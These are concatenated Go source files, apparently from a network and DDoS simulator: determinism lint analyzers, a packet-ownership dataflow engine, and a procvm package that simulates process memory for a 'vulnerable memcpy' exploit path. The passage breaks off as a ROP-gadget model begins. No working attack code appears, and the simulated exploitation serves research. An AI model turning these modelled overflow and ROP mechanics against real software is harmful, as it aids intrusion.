func (s *SchedBlock) Doc() string {
	return "forbid channel ops, sync primitives, and goroutines inside scheduler callbacks"
}

func (s *SchedBlock) Run(pass *Pass) {
	for _, file := range pass.Pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			fn := pass.FuncFor(call)
			if fn == nil || fn.Pkg() == nil || fn.Pkg().Path() != s.SimPkg {
				return true
			}
			if !isSchedulingEntry(fn) && !isKernelCallbackEntry(fn) {
				return true
			}
			for _, arg := range call.Args {
				if lit, ok := ast.Unparen(arg).(*ast.FuncLit); ok {
					s.checkCallback(pass, fn.Name(), lit)
				}
			}
			return true
		})
	}
}

func isSchedulingEntry(fn *types.Func) bool {
	name := fn.Name()
	if name == "NewTicker" {
		return true
	}
	return len(name) >= len("Schedule") && name[:len("Schedule")] == "Schedule"
}

// isKernelCallbackEntry matches the sharded kernel's other
// callback-taking entry points: the mailbox (a SendFunc closure is
// delivered on the destination LP's event loop), the barrier runners
// (a WithLP/Barrier body runs on the coordinator with every worker
// parked), and barrier tasks. All of them must stay non-blocking for
// the same reason scheduled callbacks must.
func isKernelCallbackEntry(fn *types.Func) bool {
	switch fn.Name() {
	case "SendFunc", "Barrier", "WithLP", "AddTask":
		return true
	}
	return false
}

func (s *SchedBlock) checkCallback(pass *Pass, entry string, lit *ast.FuncLit) {
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.SendStmt:
			s.report(pass, n.Pos(), entry, "channel send")
		case *ast.UnaryExpr:
			if n.Op == token.ARROW {
				s.report(pass, n.Pos(), entry, "channel receive")
			}
		case *ast.SelectStmt:
			s.report(pass, n.Pos(), entry, "select statement")
			return false
		case *ast.GoStmt:
			s.report(pass, n.Pos(), entry, "goroutine spawn")
		case *ast.CallExpr:
			if fn := pass.FuncFor(n); fn != nil && fn.Pkg() != nil && fn.Pkg().Path() == "sync" {
				s.report(pass, n.Pos(), entry, "sync."+recvName(fn)+fn.Name()+" call")
			}
		}
		return true
	})
}

func (s *SchedBlock) report(pass *Pass, pos token.Pos, entry, what string) {
	pass.Reportf(s.Name(), pos,
		"%s inside a %s callback; scheduler callbacks run on the single-threaded event loop and must stay non-blocking", what, entry)
}

func recvName(fn *types.Func) string {
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return ""
	}
	t := sig.Recv().Type()
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	if named, ok := t.(*types.Named); ok {
		return named.Obj().Name() + "."
	}
	return ""
}
