package lint

import (
	"go/ast"
	"go/types"
)

// wallclockFuncs are the package-level time functions that read or
// wait on the wall clock. Referencing any of them couples simulation
// behaviour to host timing and breaks same-seed reproducibility;
// simulated code must use sim.Time and the scheduler.
var wallclockFuncs = map[string]bool{
	"Now": true, "Since": true, "Until": true, "Sleep": true,
	"After": true, "AfterFunc": true, "Tick": true,
	"NewTimer": true, "NewTicker": true,
}

// Wallclock flags wall-clock access outside the allowlisted packages.
type Wallclock struct {
	// AllowPkgs maps import paths that may touch the wall clock.
	AllowPkgs map[string]bool
}

// NewWallclock returns the analyzer with the repo's allowlist: the
// obs profiler (which measures wall cost per simulated second through
// an injectable clock) and the benchmark driver.
func NewWallclock() *Wallclock {
	return &Wallclock{AllowPkgs: map[string]bool{
		"ddosim/internal/obs":  true,
		"ddosim/cmd/benchjson": true,
	}}
}

func (w *Wallclock) Name() string { return "wallclock" }

func (w *Wallclock) Doc() string {
	return "forbid time.Now/Since/Sleep and friends outside allowlisted packages"
}

func (w *Wallclock) Run(pass *Pass) {
	if w.AllowPkgs[pass.Pkg.Path] {
		return
	}
	for _, file := range pass.Pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			id, ok := n.(*ast.Ident)
			if !ok {
				return true
			}
			fn, ok := pass.Pkg.Info.Uses[id].(*types.Func)
			if !ok || fn.Pkg() == nil || fn.Pkg().Path() != "time" {
				return true
			}
			if sig, ok := fn.Type().(*types.Signature); ok && sig.Recv() != nil {
				return true // methods on Time/Duration values are pure
			}
			if wallclockFuncs[fn.Name()] {
				pass.Reportf(w.Name(), id.Pos(),
					"time.%s reads the wall clock; simulation code must use sim.Time via the scheduler", fn.Name())
			}
			return true
		})
	}
}
