package lint

// StaleCapture flags scheduler callbacks (sim.Schedule*/NewTicker
// function-literal arguments) that capture pooled values whose
// lifetime ends before the event can fire under the slot/generation
// kernel: borrowed packets (including range-loop variables over
// packet containers) whose borrow expires when the scheduling frame
// returns, packets already released or handed off at capture time,
// and owned packets released while a pending callback still holds
// them. It shares its dataflow engine with PktOwn (see NewOwnership).
type StaleCapture struct {
	eng *ownEngine
}

// Name implements Analyzer.
func (s *StaleCapture) Name() string { return "stalecapture" }

// Doc implements Analyzer.
func (s *StaleCapture) Doc() string {
	return "scheduler callbacks capturing pooled values whose lifetime ends before the event fires"
}

// Prepare implements Preparer (idempotent across the shared engine).
func (s *StaleCapture) Prepare(pkgs []*Package) { s.eng.Prepare(pkgs) }

// Run implements Analyzer.
func (s *StaleCapture) Run(pass *Pass) { s.eng.report(pass, s.Name()) }
