package lint

// ownership.go is the flow-sensitive dataflow engine behind the
// pktown and stalecapture analyzers. It tracks where the single
// ownership of each pooled *netsim.Packet is at every program point,
// per function, over the CFGs built by cfg.go, and summarizes each
// function's effect on its pooled parameters so facts propagate
// interprocedurally across the send path — RacerD-style compositional
// summaries rather than whole-program abstract interpretation.
//
// The fact for a variable is a *set* of ownership states (a bitmask),
// joined by union at control-flow merges: the analysis answers "may
// this pointer be released here?" and only reports when a definitely
// bad state is in the set. Anything the engine cannot model precisely
// (aliasing, escaping into the heap, calls it has no summary for)
// widens to stUnknown, which silences all later reports on that
// variable — the engine prefers a missed bug over a false alarm,
// because the simdebug runtime sanitizer (internal/netsim) covers the
// dynamic side of exactly these bugs.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
)

// stateMask is a set of ownership states for one pooled variable.
type stateMask uint16

const (
	// stOwned: this frame holds the packet and is responsible for
	// releasing it or handing it off.
	stOwned stateMask = 1 << iota
	// stBorrowed: someone up the stack owns it; valid for the duration
	// of this call only.
	stBorrowed
	// stReleased: returned to the free list; any touch is use-after-release.
	stReleased
	// stHandedOff: ownership transferred (terminal send, channel,
	// container, return); this frame must not touch it again.
	stHandedOff
	// stCaptured: still owned, but a scheduled callback holds a
	// reference — releasing before the event fires is a bug.
	stCaptured
	// stUnknown: tracking gave up (alias, escape, unknown callee).
	stUnknown
)

// OwnConfig seeds the engine with the pool's primitive operations by
// function key ("pkgpath.Recv.Name"). Seeds take precedence over
// derived summaries so fixtures analyzed without the netsim package
// in the run still see the real transfer semantics.
type OwnConfig struct {
	// PoolTypes names the pooled struct types ("pkgpath.Name");
	// pointers to these are tracked.
	PoolTypes map[string]bool
	// Allocs return a fresh owned packet.
	Allocs map[string]bool
	// Releases return their pooled argument to the free list.
	Releases map[string]bool
	// Consumes take ownership of their pooled argument (terminal send).
	Consumes map[string]bool
	// SchedPkg is the scheduler package; function literals passed to
	// its Schedule*/NewTicker entries outlive the current frame.
	SchedPkg string
}

// DefaultOwnConfig matches internal/netsim's packet pool contract.
func DefaultOwnConfig() *OwnConfig {
	const netsim = "ddosim/internal/netsim"
	return &OwnConfig{
		PoolTypes: map[string]bool{netsim + ".Packet": true},
		Allocs: map[string]bool{
			netsim + ".Network.AllocPacket": true,
			netsim + ".Network.getPacket":   true,
			netsim + ".Network.clonePacket": true,
			netsim + ".Packet.Clone":        true,
			// Node-level pool surface: under the sharded kernel packets
			// come from the node's shard-local pool, not the network's.
			netsim + ".Node.AllocPacket": true,
			netsim + ".Node.getPacket":   true,
			netsim + ".Node.clonePacket": true,
		},
		Releases: map[string]bool{
			netsim + ".Network.ReleasePacket": true,
			netsim + ".Network.putPacket":     true,
			netsim + ".Node.ReleasePacket":    true,
			netsim + ".Node.putPacket":        true,
		},
		Consumes: map[string]bool{
			netsim + ".Node.SendPacket": true,
			netsim + ".NetDevice.Send":  true,
		},
		SchedPkg: "ddosim/internal/sim",
	}
}

// ownKind discriminates the engine's findings; the two analyzers
// split them between pktown and stalecapture.
type ownKind uint8

const (
	kindUseAfterRelease ownKind = iota
	kindUseAfterHandoff
	kindDoubleRelease
	kindLeak
	kindStaleBorrow
	kindStaleDead
	kindStaleConsume
)

func (k ownKind) analyzer() string {
	switch k {
	case kindStaleBorrow, kindStaleDead, kindStaleConsume:
		return "stalecapture"
	default:
		return "pktown"
	}
}

type ownFinding struct {
	kind ownKind
	pos  token.Pos
	msg  string
}

// ownSummary is a function's effect on pooled values: the exit-state
// mask of its receiver and each pooled formal, and the state of each
// pooled result from the callee's point of view. Summaries are joined
// monotonically across fixpoint rounds, so recursion converges.
type ownSummary struct {
	recv    stateMask
	params  map[int]stateMask
	results map[int]stateMask
}

func (s *ownSummary) union(o *ownSummary) bool {
	changed := false
	or := func(dst *stateMask, m stateMask) {
		if *dst|m != *dst {
			*dst |= m
			changed = true
		}
	}
	or(&s.recv, o.recv)
	for i, m := range o.params {
		v := s.params[i]
		or(&v, m)
		s.params[i] = v
	}
	for i, m := range o.results {
		v := s.results[i]
		or(&v, m)
		s.results[i] = v
	}
	return changed
}

// ownUnit is one analysis unit: a declared function or a function
// literal (literals are units of their own because the evaluator does
// not descend into them — it models only the capture).
type ownUnit struct {
	pkg      *Package
	fn       *types.Func // nil for function literals
	desc     string      // for diagnostics: "Node.SendPacket", "function literal"
	sig      *types.Signature
	recv     *types.Var
	body     *ast.BlockStmt
	lit      *ast.FuncLit
	g        *cfg
	captured []*types.Var // pooled vars a literal captures from its enclosing frame
}

// ownEngine runs the whole-run analysis once (Prepare) and replays
// the stored findings through each package's Pass so allow
// annotations and diagnostic ordering work exactly like every other
// analyzer.
type ownEngine struct {
	cfg       *OwnConfig
	prepared  bool
	summaries map[*types.Func]*ownSummary
	findings  map[*Package][]ownFinding
}

func newOwnEngine(cfg *OwnConfig) *ownEngine {
	return &ownEngine{
		cfg:       cfg,
		summaries: make(map[*types.Func]*ownSummary),
		findings:  make(map[*Package][]ownFinding),
	}
}

// Prepare computes summaries for every function in pkgs to a
// fixpoint, then runs one reporting sweep. Idempotent: the second
// analyzer sharing the engine is a no-op.
func (eng *ownEngine) Prepare(pkgs []*Package) {
	if eng.prepared {
		return
	}
	eng.prepared = true
	var units []*ownUnit
	for _, pkg := range pkgs {
		units = append(units, eng.collectUnits(pkg)...)
	}
	// Summary fixpoint. Summaries only grow (union), so this
	// terminates; the iteration bound is a safety net for pathological
	// call graphs.
	for round := 0; round < 10; round++ {
		changed := false
		for _, u := range units {
			if u.fn == nil {
				continue
			}
			sum := eng.analyzeUnit(u, nil)
			old := eng.summaries[u.fn]
			if old == nil {
				eng.summaries[u.fn] = sum
				changed = true
			} else if old.union(sum) {
				changed = true
			}
		}
		if !changed {
			break
		}
	}
	// Reporting sweep with the final summaries.
	for _, u := range units {
		seen := make(map[string]bool)
		eng.analyzeUnit(u, func(f ownFinding) {
			key := fmt.Sprintf("%d/%d/%s", f.pos, f.kind, f.msg)
			if seen[key] {
				return
			}
			seen[key] = true
			eng.findings[u.pkg] = append(eng.findings[u.pkg], f)
		})
	}
}

// report replays the stored findings for one package through a Pass.
func (eng *ownEngine) report(pass *Pass, analyzer string) {
	for _, f := range eng.findings[pass.Pkg] {
		if f.kind.analyzer() != analyzer {
			continue
		}
		pass.Reportf(analyzer, f.pos, "%s", f.msg)
	}
}

// collectUnits finds every function declaration and literal in pkg.
func (eng *ownEngine) collectUnits(pkg *Package) []*ownUnit {
	var units []*ownUnit
	for _, file := range pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.FuncDecl:
				if n.Body == nil {
					return true
				}
				fn, _ := pkg.Info.Defs[n.Name].(*types.Func)
				if fn == nil {
					return true
				}
				sig := fn.Type().(*types.Signature)
				u := &ownUnit{
					pkg: pkg, fn: fn, sig: sig, recv: sig.Recv(),
					body: n.Body, desc: funcDesc(fn),
					g: buildCFG(n.Body),
				}
				units = append(units, u)
			case *ast.FuncLit:
				sig, _ := pkg.Info.TypeOf(n).(*types.Signature)
				if sig == nil {
					return true
				}
				u := &ownUnit{
					pkg: pkg, sig: sig, body: n.Body, lit: n,
					desc:     "function literal",
					g:        buildCFG(n.Body),
					captured: eng.capturedPooled(pkg, n),
				}
				units = append(units, u)
			}
			return true
		})
	}
	return units
}

// capturedPooled lists the pooled function-scoped variables a literal
// references but does not declare — the variables whose lifetime the
// stalecapture analyzer reasons about.
func (eng *ownEngine) capturedPooled(pkg *Package, lit *ast.FuncLit) []*types.Var {
	seen := make(map[*types.Var]bool)
	var out []*types.Var
	ast.Inspect(lit, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		v, ok := pkg.Info.Uses[id].(*types.Var)
		if !ok || seen[v] || !eng.isTrackable(pkg, v) {
			return true
		}
		if v.Pos() >= lit.Pos() && v.Pos() < lit.End() {
			return true // declared inside the literal
		}
		seen[v] = true
		out = append(out, v)
		return true
	})
	return out
}

// isTrackable reports whether v is a function-scoped pooled pointer —
// the only thing the engine keeps facts for. Package-level variables
// and struct fields are shared state; they widen to unknown at the
// point of use instead.
func (eng *ownEngine) isTrackable(pkg *Package, v *types.Var) bool {
	if v == nil || v.IsField() || !eng.isPooledPtr(v.Type()) {
		return false
	}
	if v.Parent() == nil || v.Parent() == pkg.Types.Scope() {
		return false
	}
	return true
}

// isPooledPtr reports whether t is *T for a configured pool type.
func (eng *ownEngine) isPooledPtr(t types.Type) bool {
	ptr, ok := t.(*types.Pointer)
	if !ok {
		return false
	}
	named, ok := ptr.Elem().(*types.Named)
	if !ok || named.Obj().Pkg() == nil {
		return false
	}
	return eng.cfg.PoolTypes[named.Obj().Pkg().Path()+"."+named.Obj().Name()]
}

// funcKey renders fn as "pkgpath.Recv.Name" for config lookups.
func funcKey(fn *types.Func) string {
	if fn.Pkg() == nil {
		return fn.Name()
	}
	key := fn.Pkg().Path() + "."
	if sig, ok := fn.Type().(*types.Signature); ok && sig.Recv() != nil {
		t := sig.Recv().Type()
		if p, ok := t.(*types.Pointer); ok {
			t = p.Elem()
		}
		if n, ok := t.(*types.Named); ok {
			key += n.Obj().Name() + "."
		}
	}
	return key + fn.Name()
}

// funcDesc renders fn for use in a diagnostic message.
func funcDesc(fn *types.Func) string {
	if sig, ok := fn.Type().(*types.Signature); ok && sig.Recv() != nil {
		t := sig.Recv().Type()
		if p, ok := t.(*types.Pointer); ok {
			t = p.Elem()
		}
		if n, ok := t.(*types.Named); ok {
			return n.Obj().Name() + "." + fn.Name()
		}
	}
	return fn.Name()
}

// ownFacts maps each tracked variable to its current state set.
type ownFacts map[*types.Var]stateMask

func (f ownFacts) clone() ownFacts {
	c := make(ownFacts, len(f))
	for v, m := range f {
		c[v] = m
	}
	return c
}

func factsEqual(a, b ownFacts) bool {
	if len(a) != len(b) {
		return false
	}
	for v, m := range a {
		if b[v] != m {
			return false
		}
	}
	return true
}

// analyzeUnit runs the dataflow fixpoint over u's CFG and returns its
// summary. With emit non-nil it also performs the reporting walk.
func (eng *ownEngine) analyzeUnit(u *ownUnit, emit func(ownFinding)) *ownSummary {
	preds := u.g.preds()
	init := eng.initFacts(u)
	outs := make(map[*cfgBlock]ownFacts)
	ev := &ownEval{u: u, eng: eng,
		allocSite:    make(map[*types.Var]token.Pos),
		eventSite:    make(map[*types.Var]token.Pos),
		rangeVars:    make(map[*types.Var]bool),
		deferRelease: make(map[*types.Var]bool),
	}
	joinIn := func(b *cfgBlock) ownFacts {
		in := make(ownFacts)
		if b == u.g.entry {
			for v, m := range init {
				in[v] |= m
			}
		}
		for _, p := range preds[b] {
			for v, m := range outs[p] {
				in[v] |= m
			}
		}
		return in
	}
	// The transfer function is not strictly monotone (rebinding a
	// variable replaces its mask), so the fixpoint loop is bounded;
	// in practice two or three rounds converge.
	maxRounds := 4*len(u.g.blocks) + 8
	for round := 0; round < maxRounds; round++ {
		changed := false
		for _, b := range u.g.blocks {
			ev.facts = joinIn(b)
			for _, n := range b.nodes {
				ev.node(n)
			}
			if !factsEqual(ev.facts, outs[b]) {
				outs[b] = ev.facts
				changed = true
			}
		}
		if !changed {
			break
		}
	}
	// Final walk: report (if emit is set) and record return masks for
	// the summary.
	ev.emit = emit
	ev.retMasks = make(map[int]stateMask)
	for _, b := range u.g.blocks {
		ev.facts = joinIn(b)
		for _, n := range b.nodes {
			ev.node(n)
		}
	}
	exit := joinIn(u.g.exit)
	if emit != nil {
		for v, m := range exit {
			if m&stOwned == 0 || ev.deferRelease[v] {
				continue
			}
			if m&stCaptured != 0 {
				// Owned but captured by a scheduled callback: ownership
				// moves into the callback (which is expected to release
				// or hand off), the sanctioned transfer idiom.
				continue
			}
			site, ok := ev.allocSite[v]
			if !ok {
				continue // not allocated in this unit (rebinding artifacts)
			}
			emit(ownFinding{kind: kindLeak, pos: site, msg: fmt.Sprintf(
				"pooled packet %s allocated in %s leaks: no release or ownership hand-off on some path to return",
				v.Name(), u.desc)})
		}
	}
	sum := &ownSummary{params: make(map[int]stateMask), results: make(map[int]stateMask)}
	if u.recv != nil && eng.isTrackable(u.pkg, u.recv) {
		sum.recv = exit[u.recv]
	}
	for i := 0; i < u.sig.Params().Len(); i++ {
		p := u.sig.Params().At(i)
		if eng.isTrackable(u.pkg, p) {
			sum.params[i] = exit[p]
		}
	}
	for i := 0; i < u.sig.Results().Len(); i++ {
		if eng.isPooledPtr(u.sig.Results().At(i).Type()) {
			sum.results[i] = ev.retMasks[i]
		}
	}
	return sum
}

// initFacts seeds the entry state: pooled receiver and parameters are
// borrowed from the caller; so are a literal's captured variables
// (from the literal's own point of view the enclosing frame owns
// them — the enclosing frame's walk separately decides whether the
// capture itself is legal).
func (eng *ownEngine) initFacts(u *ownUnit) ownFacts {
	init := make(ownFacts)
	if u.recv != nil && eng.isTrackable(u.pkg, u.recv) {
		init[u.recv] = stBorrowed
	}
	for i := 0; i < u.sig.Params().Len(); i++ {
		if p := u.sig.Params().At(i); eng.isTrackable(u.pkg, p) {
			init[p] = stBorrowed
		}
	}
	for _, v := range u.captured {
		init[v] = stBorrowed
	}
	return init
}
