// Package lint is DDoSim's determinism and simulation-safety static
// analysis engine. It is built directly on go/parser, go/ast, and
// go/types — no golang.org/x/tools dependency — and checks the
// invariants the simulation kernel promises but the compiler cannot
// enforce:
//
//   - wallclock: simulation code must read sim.Time, never the wall
//     clock. time.Now/Since/Sleep and friends are banned outside an
//     explicit allowlist (the obs profiler's injected clock, the
//     benchmark driver).
//   - globalrand: all randomness flows through injected seeded
//     *rand.Rand values. Package-level math/rand functions share
//     hidden global state across subsystems and break same-seed
//     reproducibility.
//   - maporder: Go map iteration order is deliberately randomized, so
//     a `range` over a map whose body has side effects (calls, channel
//     ops, appends to outer scope) leaks nondeterminism into event
//     ordering. Iterate sorted keys instead, or annotate a provably
//     order-independent loop with //simlint:allow maporder(reason).
//   - schedblock: scheduler callbacks run on the single-threaded
//     event loop; channel operations, sync primitives, and goroutine
//     spawns inside them either deadlock the loop or reintroduce the
//     concurrency the kernel exists to avoid.
//
// The cmd/simlint driver loads every package in the module and runs
// the default suite; `go run ./cmd/simlint ./...` is a blocking CI
// gate.
package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"path/filepath"
	"sort"
	"strings"
)

// Diagnostic is one finding, positioned relative to the module root.
type Diagnostic struct {
	File     string `json:"file"` // module-root-relative path
	Line     int    `json:"line"`
	Col      int    `json:"col"`
	Analyzer string `json:"analyzer"`
	Message  string `json:"message"`
}

// String renders the canonical file:line:col analyzer: message form.
func (d Diagnostic) String() string {
	return fmt.Sprintf("%s:%d:%d %s: %s", d.File, d.Line, d.Col, d.Analyzer, d.Message)
}

// Analyzer is one check run over a type-checked package.
type Analyzer interface {
	// Name is the short identifier used in diagnostics and in
	// //simlint:allow annotations.
	Name() string
	// Doc is a one-line description for the driver's -list output.
	Doc() string
	// Run inspects the package behind pass and reports findings.
	Run(pass *Pass)
}

// Pass carries one package through one analyzer, routing reports
// through the allow-annotation filter.
type Pass struct {
	Pkg    *Package
	allows allowIndex
	diags  *[]Diagnostic
}

// TypeOf resolves the type of an expression, or nil.
func (p *Pass) TypeOf(e ast.Expr) types.Type { return p.Pkg.Info.TypeOf(e) }

// FuncFor resolves a call's callee to a *types.Func, or nil when the
// callee is a builtin, a type conversion, or a function value.
func (p *Pass) FuncFor(call *ast.CallExpr) *types.Func {
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.SelectorExpr:
		if f, ok := p.Pkg.Info.Uses[fun.Sel].(*types.Func); ok {
			return f
		}
	case *ast.Ident:
		if f, ok := p.Pkg.Info.Uses[fun].(*types.Func); ok {
			return f
		}
	}
	return nil
}

// Reportf records a diagnostic at pos unless an allow annotation for
// the analyzer covers that line.
func (p *Pass) Reportf(analyzer string, pos token.Pos, format string, args ...any) {
	position := p.Pkg.Fset.Position(pos)
	if p.allows.covers(analyzer, position.Filename, position.Line) {
		return
	}
	*p.diags = append(*p.diags, Diagnostic{
		File:     p.Pkg.relPath(position.Filename),
		Line:     position.Line,
		Col:      position.Column,
		Analyzer: analyzer,
		Message:  fmt.Sprintf(format, args...),
	})
}

// Preparer is implemented by analyzers that need a whole-run phase
// before per-package reporting — the ownership engine computes its
// interprocedural function summaries here. Run invokes Prepare once
// per analyzer, with every package of the run, before any Run call.
type Preparer interface {
	Prepare(pkgs []*Package)
}

// RunOpts selects optional whole-run checks layered on top of the
// analyzer suite.
type RunOpts struct {
	// UnusedAllows reports every //simlint:allow annotation naming an
	// analyzer from the run set that suppressed nothing — the stale-
	// suppression audit CI runs with the full suite.
	UnusedAllows bool
}

// Run executes the analyzers over each package and returns all
// diagnostics sorted by (file, line, col, analyzer). Malformed or
// reason-less allow annotations surface as diagnostics themselves.
func Run(pkgs []*Package, analyzers []Analyzer) []Diagnostic {
	return RunWith(pkgs, analyzers, RunOpts{})
}

// RunWith is Run with options.
func RunWith(pkgs []*Package, analyzers []Analyzer, opts RunOpts) []Diagnostic {
	for _, a := range analyzers {
		if p, ok := a.(Preparer); ok {
			p.Prepare(pkgs)
		}
	}
	ran := make(map[string]bool, len(analyzers))
	for _, a := range analyzers {
		ran[a.Name()] = true
	}
	var diags []Diagnostic
	for _, pkg := range pkgs {
		allows := collectAllows(pkg, &diags)
		pass := &Pass{Pkg: pkg, allows: allows, diags: &diags}
		for _, a := range analyzers {
			a.Run(pass)
		}
		if opts.UnusedAllows {
			allows.reportUnused(ran, &diags)
		}
	}
	sort.Slice(diags, func(i, j int) bool {
		a, b := diags[i], diags[j]
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		if a.Col != b.Col {
			return a.Col < b.Col
		}
		if a.Analyzer != b.Analyzer {
			return a.Analyzer < b.Analyzer
		}
		return a.Message < b.Message
	})
	return diags
}

// DefaultSuite returns the nine analyzers with DDoSim's repo policy
// baked in.
func DefaultSuite() []Analyzer {
	pktown, stalecapture := NewOwnership()
	shardconfine, crossnode := NewShardConfinement()
	return []Analyzer{
		NewWallclock(),
		NewGlobalRand(),
		NewMapOrder(),
		NewSchedBlock(),
		pktown,
		stalecapture,
		shardconfine,
		crossnode,
		NewAllocFree(),
	}
}

// relPath renders filename relative to the package's module root; the
// absolute path is kept when it escapes the root.
func (p *Package) relPath(filename string) string {
	rel, err := filepath.Rel(p.Root, filename)
	if err != nil || strings.HasPrefix(rel, "..") {
		return filename
	}
	return filepath.ToSlash(rel)
}

// pathBase reports the last segment of an import path — the matcher
// the maporder analyzer uses for its determinism-critical package set.
func pathBase(importPath string) string {
	if i := strings.LastIndexByte(importPath, '/'); i >= 0 {
		return importPath[i+1:]
	}
	return importPath
}
