package procvm

import (
	"encoding/binary"
	"fmt"
)

// Perm is a bitset of region permissions.
type Perm uint8

// Permission bits.
const (
	PermRead Perm = 1 << iota
	PermWrite
	PermExec
)

// String renders the permissions rwx-style.
func (p Perm) String() string {
	b := []byte("---")
	if p&PermRead != 0 {
		b[0] = 'r'
	}
	if p&PermWrite != 0 {
		b[1] = 'w'
	}
	if p&PermExec != 0 {
		b[2] = 'x'
	}
	return string(b)
}

// Lazy backing: regions larger than the chunk size hold a sparse
// chunk table instead of one eager allocation, and a chunk
// materializes only when first written. A fleet of processes maps
// megabytes of text and stack per process, but the exploit path
// touches a few hundred bytes of stack and the text bytes are never
// written at all — eager backing made address spaces the dominant
// memory cost of large-fleet runs.
const (
	lazyChunkShift = 16 // 64 KiB chunks
	lazyChunkSize  = 1 << lazyChunkShift
)

// zeroChunk is the read source for unmaterialized chunks.
var zeroChunk [lazyChunkSize]byte

// Region is one contiguous mapping in an address space.
type Region struct {
	Name string
	Base uint64
	Size uint64
	Perm Perm
	data   []byte   // eager backing (regions <= one chunk)
	chunks [][]byte // sparse backing (larger regions); nil entry = all zeros
}

// Contains reports whether addr falls inside the region.
func (r *Region) Contains(addr uint64) bool {
	return addr >= r.Base && addr < r.Base+r.Size
}

// End reports the first address past the region.
func (r *Region) End() uint64 { return r.Base + r.Size }

// AddressSpace is a set of non-overlapping regions.
type AddressSpace struct {
	regions []*Region
}

// Map adds a region. Overlapping an existing region is a programming
// error and panics.
func (as *AddressSpace) Map(name string, base, size uint64, perm Perm) *Region {
	for _, r := range as.regions {
		if base < r.End() && r.Base < base+size {
			panic(fmt.Sprintf("procvm: mapping %q overlaps %q", name, r.Name))
		}
	}
	reg := &Region{Name: name, Base: base, Size: size, Perm: perm}
	if size > lazyChunkSize {
		reg.chunks = make([][]byte, (size+lazyChunkSize-1)>>lazyChunkShift)
	} else {
		reg.data = make([]byte, size)
	}
	as.regions = append(as.regions, reg)
	return reg
}

// chunkLen reports the byte length of chunk ci (the last chunk of a
// region may be short).
func (r *Region) chunkLen(ci uint64) uint64 {
	start := ci << lazyChunkShift
	if rem := r.Size - start; rem < lazyChunkSize {
		return rem
	}
	return lazyChunkSize
}

// writeAt copies b into the region starting at off, materializing
// lazy chunks as it goes, and reports how many bytes fit.
func (r *Region) writeAt(off uint64, b []byte) int {
	if r.data != nil {
		return copy(r.data[off:], b)
	}
	total := 0
	for len(b) > 0 && off < r.Size {
		ci := off >> lazyChunkShift
		co := off & (lazyChunkSize - 1)
		if r.chunks[ci] == nil {
			r.chunks[ci] = make([]byte, r.chunkLen(ci))
		}
		n := copy(r.chunks[ci][co:], b)
		total += n
		b = b[n:]
		off += uint64(n)
	}
	return total
}

// appendRead appends n bytes starting at off to dst; unmaterialized
// chunks read as zeros.
func (r *Region) appendRead(dst []byte, off uint64, n int) []byte {
	if r.data != nil {
		return append(dst, r.data[off:off+uint64(n)]...)
	}
	for n > 0 {
		ci := off >> lazyChunkShift
		co := off & (lazyChunkSize - 1)
		avail := r.chunkLen(ci) - co
		take := uint64(n)
		if take > avail {
			take = avail
		}
		src := zeroChunk[:lazyChunkSize]
		if c := r.chunks[ci]; c != nil {
			src = c
		}
		dst = append(dst, src[co:co+take]...)
		n -= int(take)
		off += take
	}
	return dst
}

// RegionAt returns the region containing addr, or nil.
func (as *AddressSpace) RegionAt(addr uint64) *Region {
	for _, r := range as.regions {
		if r.Contains(addr) {
			return r
		}
	}
	return nil
}

// Regions returns the mappings in map order (a copy).
func (as *AddressSpace) Regions() []*Region {
	out := make([]*Region, len(as.regions))
	copy(out, as.regions)
	return out
}

// Write copies b into memory at addr, enforcing write permission and
// region bounds. This is the primitive the vulnerable memcpy uses, so
// its semantics define what an overflow can and cannot reach.
func (as *AddressSpace) Write(addr uint64, b []byte) *Fault {
	for len(b) > 0 {
		r := as.RegionAt(addr)
		if r == nil {
			return &Fault{Kind: FaultUnmapped, Addr: addr}
		}
		if r.Perm&PermWrite == 0 {
			return &Fault{Kind: FaultPerm, Addr: addr}
		}
		off := addr - r.Base
		n := r.writeAt(off, b)
		b = b[n:]
		addr += uint64(n)
	}
	return nil
}

// Read copies n bytes starting at addr, enforcing read permission.
func (as *AddressSpace) Read(addr uint64, n int) ([]byte, *Fault) {
	out := make([]byte, 0, n)
	for n > 0 {
		r := as.RegionAt(addr)
		if r == nil {
			return nil, &Fault{Kind: FaultUnmapped, Addr: addr}
		}
		if r.Perm&PermRead == 0 {
			return nil, &Fault{Kind: FaultPerm, Addr: addr}
		}
		off := addr - r.Base
		avail := int(r.Size - off)
		take := n
		if take > avail {
			take = avail
		}
		out = r.appendRead(out, off, take)
		n -= take
		addr += uint64(take)
	}
	return out, nil
}

// ReadU64 reads a little-endian 64-bit word.
func (as *AddressSpace) ReadU64(addr uint64) (uint64, *Fault) {
	b, f := as.Read(addr, 8)
	if f != nil {
		return 0, f
	}
	return binary.LittleEndian.Uint64(b), nil
}

// WriteU64 writes a little-endian 64-bit word.
func (as *AddressSpace) WriteU64(addr, v uint64) *Fault {
	var b [8]byte
	binary.LittleEndian.PutUint64(b[:], v)
	return as.Write(addr, b[:])
}

// ReadCString reads a NUL-terminated string of at most max bytes.
func (as *AddressSpace) ReadCString(addr uint64, max int) (string, *Fault) {
	var out []byte
	for i := 0; i < max; i++ {
		b, f := as.Read(addr+uint64(i), 1)
		if f != nil {
			return "", f
		}
		if b[0] == 0 {
			return string(out), nil
		}
		out = append(out, b[0])
	}
	return string(out), nil
}
