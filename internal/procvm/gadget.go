package procvm

// Register indices for the simplified x86-64 register file.
const (
	RDI = iota
	RSI
	RDX
	RAX
	RBP
	NumRegs
)

// Op is a single micro-operation inside a gadget. A real ROP gadget is
// a short instruction sequence ending in ret; ours is a short Op
// sequence with an implicit trailing ret (the machine pops the next
// chain entry after the last op unless the gadget diverted control).
type Op interface{ op() }

// OpPop pops the next 8-byte stack word into a register —
